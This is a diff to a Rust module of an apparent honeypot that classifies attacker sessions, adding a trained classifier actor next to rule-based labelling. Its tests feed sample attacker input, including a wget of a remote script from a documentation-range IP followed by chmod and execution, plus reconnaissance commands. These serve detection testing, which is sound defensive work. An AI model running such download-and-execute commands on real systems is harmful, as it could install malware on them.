@@ -1,43 +1,70 @@
-//! The session's attacker class: its input lines with their times, re-labelled after each line
-//! by the R1–R8 rules ([`crate::models::labels`]); a change becomes `mirage.classification`.
+//! The session's attacker class, re-decided after each input line and announced as
+//! `mirage.classification` when it changes.
+//!
+//! The session keeps its features ([`SessionFeatures`], bounded work per line). With a
+//! trained classifier in the model set it took at start, it sends the feature vector to the
+//! [`ClassifierActor`] (its own thread) and waits for the answer before its next message, so
+//! events stay in input order; a class, or a confidence that moved to another tenth, is
+//! announced with `source: tree`, the set's version as `rule` and the confidence. Without
+//! one, the R1–R8 rules decide, as counted by the features (`source: rules`).
 
+use std::sync::Arc;
+
+use actix::prelude::*;
 use chrono::{DateTime, Utc};
 
+use super::SessionActor;
+use crate::actors::classifier::{ClassifierActor, Classify};
 use crate::events::EventKind;
-use crate::models::{Label, Labeller};
+use crate::models::classifier::Prediction;
+use crate::models::features::{FEATURES, SessionFeatures};
+use crate::models::{Class, ModelHandle, Models};
 
 /// Most input lines a session's class is decided from; later lines leave it as it is.
 pub const MAX_LINES: usize = 1000;
 /// Most input bytes kept for classifying one session.
 pub const MAX_BYTES: usize = 64 * 1024;
 
+/// What the session should do after a line.
+#[derive(Debug)]
+pub(super) enum Next {
+    /// Emit this event now.
+    Announce(EventKind),
+    /// Ask the trained classifier about these features.
+    Ask(Classify),
+}
+
 /// One session's input so far and the class last announced.
 #[derive(Debug, Clone)]
 pub(super) struct Classifier {
     started: DateTime<Utc>,
-    /// The input so far, split as it came.
-    labeller: Labeller,
+    features: SessionFeatures,
+    /// The session's model set, when it holds a trained classifier.
+    models: Option<Arc<Models>>,
     lines: usize,
     bytes: usize,
-    current: Option<Label>,
+    /// The class last announced, with its confidence in tenths (the model's only).
+    current: Option<(Class, Option<u8>)>,
 }
 
 impl Classifier {
-    /// A session that started at `started` and has typed nothing yet.
-    pub(super) fn new(started: DateTime<Utc>) -> Classifier {
+    /// A session that started at `started` and has typed nothing yet, classified with the
+    /// current model set of `models` (kept for the session's life).
+    pub(super) fn new(started: DateTime<Utc>, models: &ModelHandle) -> Classifier {
+        let models = models.current();
         Classifier {
             started,
-            labeller: Labeller::default(),
+            features: SessionFeatures::default(),
+            models: models.classifier.is_some().then_some(models),
             lines: 0,
             bytes: 0,
             current: None,
         }
     }
 
-    /// Takes one input line typed at `at`; the `mirage.classification` event to emit when the
-    /// session's class changed (or became known), `None` when it stayed the same. Blank
-    /// lines, and lines beyond [`MAX_LINES`] or [`MAX_BYTES`], change nothing.
-    pub(super) fn observe(&mut self, at: DateTime<Utc>, line: &str) -> Option<EventKind> {
+    /// Takes one input line typed at `at`: what to do about the session's class. `None` when
+    /// nothing changed, or for blank lines and lines beyond [`MAX_LINES`] or [`MAX_BYTES`].
+    pub(super) fn observe(&mut self, at: DateTime<Utc>, line: &str) -> Option<Next> {
         if line.trim().is_empty()
             || self.lines >= MAX_LINES
             || self.bytes.saturating_add(line.len()) > MAX_BYTES
@@ -47,19 +74,84 @@ impl Classifier {
         let seconds = (at - self.started)
             .to_std()
             .map_or(0.0, |elapsed| elapsed.as_secs_f64());
-        self.labeller.push(Some(seconds), line);
+        self.features.push(Some(seconds), line);
         self.lines += 1;
         self.bytes += line.len();
-        let now = self.labeller.label();
-        if self.current.is_some_and(|before| before.class == now.class) {
+        match &self.models {
+            Some(models) => Some(Next::Ask(Classify {
+                models: models.clone(),
+                features: self.vector(),
+            })),
+            None => self.rules().map(Next::Announce),
+        }
+    }
+
+    fn vector(&self) -> [f64; FEATURES] {
+        // The attack-phase slots stay zero until a phase model runs in the session.
+        self.features.vector(None)
+    }
+
+    /// The rules' class, as an event when it changed.
+    pub(super) fn rules(&mut self) -> Option<EventKind> {
+        let class = self.features.rule_class();
+        if self.current.is_some_and(|(before, _)| before == class) {
+            return None;
+        }
+        self.current = Some((class, None));
+        Some(EventKind::Classification {
+            class: class.as_str().to_owned(),
+            rule: class.rule().to_owned(),
+            source: "rules".to_owned(),
+            confidence: None,
+        })
+    }
+
+    /// The model's answer, as an event when the class or its confidence (in tenths) changed.
+    pub(super) fn answer(&mut self, prediction: Prediction) -> Option<EventKind> {
+        let tenths = (prediction.confidence.clamp(0.0, 1.0) * 10.0).floor() as u8;
+        let now = (prediction.class, Some(tenths));
+        if self.current == Some(now) {
             return None;
         }
         self.current = Some(now);
         Some(EventKind::Classification {
-            class: now.class.as_str().to_owned(),
-            rule: now.rule.to_owned(),
-            source: "rules".to_owned(),
+            class: prediction.class.as_str().to_owned(),
+            rule: self
+                .models
+                .as_ref()
+                .map_or("none", |m| m.version())
+                .to_owned(),
+            source: "tree".to_owned(),
+            confidence: Some((prediction.confidence * 1000.0).round() / 1000.0),
         })
+    }
+}
+
+impl SessionActor {
+    /// Re-decides the session's class after `line`: at once by the rules, or by asking the
+    /// [`ClassifierActor`] and pausing this session's mailbox until it answers (a few
+    /// microseconds of work on another thread). If the classifier cannot answer, the rules
+    /// decide.
+    pub(super) fn classify_line(&mut self, line: &str, ctx: &mut Context<Self>) {
+        match self.classifier.observe(self.deps.clock.now(), line) {
+            None => {}
+            Some(Next::Announce(kind)) => self.emit(kind),
+            Some(Next::Ask(ask)) => {
+                ClassifierActor::from_registry()
+                    .send(ask)
+                    .into_actor(self)
+                    .map(|answer, act, _| {
+                        let kind = match answer {
+                            Ok(Some(prediction)) => act.classifier.answer(prediction),
+                            _ => act.classifier.rules(),
+                        };
+                        if let Some(kind) = kind {
+                            act.emit(kind);
+                        }
+                    })
+                    .wait(ctx);
+            }
+        }
     }
 }
 
@@ -68,9 +160,9 @@ mod tests {
     use super::*;
     use chrono::TimeDelta;
 
-    fn class_of(kind: Option<EventKind>) -> Option<String> {
-        match kind {
-            Some(EventKind::Classification { class, source, .. }) => {
+    fn class_of(next: Option<Next>) -> Option<String> {
+        match next {
+            Some(Next::Announce(EventKind::Classification { class, source, .. })) => {
                 assert_eq!(source, "rules");
                 Some(class)
             }
@@ -81,31 +173,63 @@ mod tests {
     #[test]
     fn a_class_is_announced_when_first_known_and_again_only_when_it_changes() {
         let start = Utc::now();
-        let mut c = Classifier::new(start);
+        let mut c = Classifier::new(start, &ModelHandle::default());
         let at = |s| start + TimeDelta::seconds(s);
         assert_eq!(
             class_of(c.observe(at(1), "uname -a")).as_deref(),
             Some("recon_fingerprint")
         );
-        assert_eq!(c.observe(at(1), "   "), None);
-        assert_eq!(c.observe(at(2), "cat /proc/cpuinfo"), None);
+        assert!(c.observe(at(1), "   ").is_none());
+        assert!(c.observe(at(2), "cat /proc/cpuinfo").is_none());
         assert_eq!(
             class_of(c.observe(at(3), "cd /tmp; wget http://198.51.100.9/x.sh")).as_deref(),
             Some("malware_dropper")
         );
-        assert_eq!(c.observe(at(4), "chmod +x x.sh; ./x.sh"), None);
+        assert!(c.observe(at(4), "chmod +x x.sh; ./x.sh").is_none());
     }
 
     #[test]
     fn input_beyond_the_bounds_is_not_kept() {
         let start = Utc::now();
-        let mut c = Classifier::new(start);
+        let mut c = Classifier::new(start, &ModelHandle::default());
         for _ in 0..MAX_LINES {
             c.observe(start, "uname");
         }
-        assert_eq!(c.observe(start, "wget http://198.51.100.9/x"), None);
-        let mut c = Classifier::new(start);
-        assert_eq!(c.observe(start, &"x".repeat(MAX_BYTES + 1)), None);
+        assert!(c.observe(start, "wget http://198.51.100.9/x").is_none());
+        let mut c = Classifier::new(start, &ModelHandle::default());
+        assert!(c.observe(start, &"x".repeat(MAX_BYTES + 1)).is_none());
         assert_eq!(c.lines, 0);
+    }
+
+    #[test]
+    fn a_model_answer_is_announced_when_class_or_tenth_of_confidence_changes() {
+        let mut c = Classifier::new(Utc::now(), &ModelHandle::default());
+        let p = |class, confidence| Prediction { class, confidence };
+        let Some(EventKind::Classification {
+            class,
+            source,
+            confidence,
+            ..
+        }) = c.answer(p(Class::MalwareDropper, 0.62))
+        else {
+            panic!("the first answer is announced");
+        };
+        assert_eq!(
+            (class.as_str(), source.as_str()),
+            ("malware_dropper", "tree")
+        );
+        assert_eq!(confidence, Some(0.62));
+        assert!(
+            c.answer(p(Class::MalwareDropper, 0.68)).is_none(),
+            "same tenth"
+        );
+        assert!(
+            c.answer(p(Class::MalwareDropper, 0.71)).is_some(),
+            "next tenth"
+        );
+        assert!(
+            c.answer(p(Class::ReconFingerprint, 0.71)).is_some(),
+            "other class"
+        );
     }
 }
